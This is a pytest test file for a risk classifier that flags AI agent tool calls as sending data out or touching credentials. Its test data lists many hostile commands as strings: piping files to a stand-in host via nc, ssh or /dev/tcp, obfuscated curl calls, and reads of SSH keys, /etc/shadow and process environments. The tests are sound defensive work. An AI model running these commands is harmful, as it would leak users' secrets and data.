"""Which calls send data out, or touch credentials."""

from __future__ import annotations

import re
from pathlib import Path
from typing import Any

import pytest

from trunkline.core import command_files
from trunkline.core.credentials import CONFIGURED, DIRECTORIES, ENDINGS, FILES, opens_something
from trunkline.core.events import Category, ToolRequested
from trunkline.core.risks import risk_of
from trunkline.core.sending import SENDERS, VERBS


def of_command(command: str, workspace: str = "/nowhere") -> str:
    return risk_of(ToolRequested("c1", "Bash", "exec", {"command": command}), workspace)


def of(name: str, workspace: str = "/nowhere", category: Category = "info", **args: Any) -> str:
    return risk_of(ToolRequested("c1", name, category, args), workspace)


@pytest.mark.parametrize(
    "command",
    [
        "curl -d @x http://127.0.0.1/", "/usr/bin/curl x", "sudo -E curl x", "env -i curl x", "xargs curl < urls",
        "find . -exec curl {} ;", "bash -c 'cu''rl x'", "make && wget x", "cat x | nc h 1", "tar cz . | ssh h cat",
        "scp x h:", "rsync -a . h:x", "for f in *; do curl $f; done", "echo $(curl x)", "git push", "git -C x push",
        "git clone https://h/x", "git fetch git@h:x", "pip install https://h/x.whl", "mytool --to=https://h/x",
        "echo x > /dev/tcp/h/1", 'echo x > /dev/"tcp"/h/1', "exec 3<>/dev/udp/h/1", "npm publish", "gh gist create x",
        "python3 -c 'import urllib.request'", "python3 - <<'E'\nimport socket\nE", "node -e 'fetch(`x`)'",
        "perl -MIO::Socket -e 1", "awk 'BEGIN { \"/inet/tcp/0/h/80\" }'", "php -r 'file_get_contents(1);'",
        # What another program could be told to run, and what is lost in others.
        "x=cu y=rl; command eval \"$x$y h\"", "printf 'cu\\162l h' | xargs -I% sh -c %", "echo curl h | nice xargs env",
        "x86_64 curl h", "sed '1e curl h' README.md", "sed '1ecurl h' f", "cat <<E\\\nOF\n$(curl h)\nEOF",
        "split --filter 'curl h' README.md", "git ls-remote --upload-pack 'curl h;' .", "vim -c '!nc h 1'",
        # Which file it is, only the shell knows.
        "cat $(cat list)", "while read f; do cat $f; done < list",
        "dig x.h", "openssl s_client -connect h:443", "mail a@h < x", "busybox nc h 1",
        # What it is, only the shell knows.
        "$(echo cu)rl x", "$TOOL x", "eval \"$x\"", "sh < x", "base64 -d x | sh",
    ],
)  # fmt: skip
def test_a_command_that_talks_to_others_could_send_data_out(command: str) -> None:
    assert of_command(command).startswith("could send data out")


@pytest.mark.parametrize(
    "command",
    [
        "ls", "git status", "git commit -m 'see https://h/x'", "pytest -q", "python3 x.py", "npm test", "gh pr view 1",
        "echo https://h/x", "grep -r https:// src", "docker run a@sha256:abc", "python -c 'print(1)'", "jq .a.key x",
        "cat .env.example", "make push", "ps aux", "ps -ef", "ps -eo pid,etime", "ps -p 1 -o etime",
        "sed 's|http|https|' f",
        "for f in *.py; do wc -l \"$f\"; done", "pytest -k 'host and mail'", "echo 'curl h'",
        "cat > x.sh <<'E'\ncurl h\nE",
        "git commit -m \"$(cat <<'E'\nuse curl h\nE\n)\"", "cd src && make", "git ls-files | xargs wc -l",
        "openssl version", "git log", "cat notes/ssh.md", "ls environment",
    ],
)  # fmt: skip
def test_a_command_that_works_here_does_not(command: str) -> None:
    assert not of_command(command)


@pytest.mark.parametrize(
    "command",
    [
        "cat ~/.ssh/id_rsa", "cat $HOME/.ssh/id_rsa", 'cat ~/.s""sh/config', "cd ~ && cat .aws/credentials",
        "cp /home/u/.netrc .", "tar c ~/.gnupg", "cat < .env", "echo x >> ~/.ssh/authorized_keys", "cat .env.local",
        "python3 -c 'open(\"/root/.ssh/x\")'", "cat /proc/self/environ", "cat /etc/shadow",
        "cat ~/.config/gh/hosts.yml",
        "cat /proc/$PPID/environ", "tr a b < /proc/$PPID/environ", "cat /proc/$$/environ",
        "x=$(pgrep a); cat /proc/$x/environ",
        "ps eww -p $PPID", "ps auxe", "cat ~/.ss${q}h/id_r*", "d=.ss; cat ~/${d}h/id_r*", "cat ~/.ssh/$(ls)",
        "base64 ~/.kube/config", "CAT ~/.SSH/ID_RSA", "cat ~/.npmrc ~/.pypirc", "grep -r x ~/.docker",
    ],
)  # fmt: skip
def test_a_command_with_the_name_of_a_credential_touches_it(command: str) -> None:
    assert of_command(command).startswith("touches credentials")


def test_a_key_file_is_one_in_a_command_if_it_is_there(tmp_path: Path) -> None:
    assert not of_command("cat server.key", str(tmp_path))
    (tmp_path / "server.key").touch()
    (tmp_path / "harmless").symlink_to("server.key")
    assert of_command("cat server.key", str(tmp_path))
    assert of_command("cat *.key", str(tmp_path))
    assert of_command("cat harmless", str(tmp_path))


@pytest.mark.parametrize(
    ("name", "args"),
    [
        ("Read", {"file_path": "~/.ssh/id_rsa"}),
        ("Read", {"file_path": ".env"}),
        ("Read", {"file_path": "certs/server.pem"}),
        ("Edit", {"file_path": "/home/u/.aws/config"}),
        ("Write", {"file_path": "~/.npmrc"}),
        ("Grep", {"pattern": "KEY", "path": "~/.ssh"}),
        ("Grep", {"pattern": "KEY", "glob": "*.{py,pem}"}),
        ("Glob", {"pattern": "**/.env*"}),
    ],
)
def test_a_tool_for_files_touches_credentials_by_their_names(name: str, args: dict[str, Any]) -> None:
    assert of(name, **args).startswith("touches credentials")
    assert not of(name, **{**args, "file_path": "a.py", "path": "src", "glob": "*.py"} | {"pattern": "*.md"})


def test_a_link_to_credentials_is_as_good_as_they_are(tmp_path: Path) -> None:
    (tmp_path / ".ssh").mkdir()
    (tmp_path / "notes").symlink_to(".ssh")
    assert of("Read", str(tmp_path), file_path="notes/x")
    assert not of("Read", str(tmp_path), file_path="other/x")


def test_what_a_server_is_told_to_open_is_looked_at_however_deep() -> None:
    assert of("open", category="mcp", files=[{"path": "~/.ssh/id_rsa"}])
    assert not of("open", category="mcp", files=[{"path": "a.py"}], text="we use .env here")
    assert not of("open", category="mcp", text="x" * 1_000_000, none=None)


def test_the_web_is_always_elsewhere() -> None:
    assert of("WebFetch", url="https://h/") == of("WebSearch", query="x") == "sends data out"


@pytest.mark.parametrize("path", ["", "/", "a.key/b", ".key", "x.pub", ".environment", "gh/hosts.yml", "key", "\0"])
def test_other_names_are_not_those_of_credentials(path: str) -> None:
    assert not opens_something(path)


def test_whoever_is_asked_sees_every_character_of_a_name() -> None:
    assert of("Read", file_path="\u202e\x1b]0;x\x07`/.ssh/`x") == (
        "touches credentials (`<U+202E><U+001B>]0;x<U+0007>'/.ssh/'x`)"
    )


def test_the_page_about_prompt_injection_lists_them_all() -> None:
    page = (Path(__file__).parents[2] / "docs" / "explanation" / "prompt-injection.md").read_text()
    words = re.sub(r"```.*?```", "", page, flags=re.DOTALL)
    told = {word for found in re.findall(r"`([^`]+)`", words) for word in found.split()}
    assert SENDERS | VERBS.keys() <= told
    assert frozenset().union(*VERBS.values()) <= told
    assert DIRECTORIES | CONFIGURED | FILES | set(ENDINGS) <= told


def test_a_command_that_names_more_files_than_are_looked_at_could_send_data_out(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    monkeypatch.setattr(command_files, "MOST_FILES", 3)
    assert of_command("cat a b c a b c") == ""
    assert of_command("cat a b c d") == "could send data out (it cannot be read to its end)"
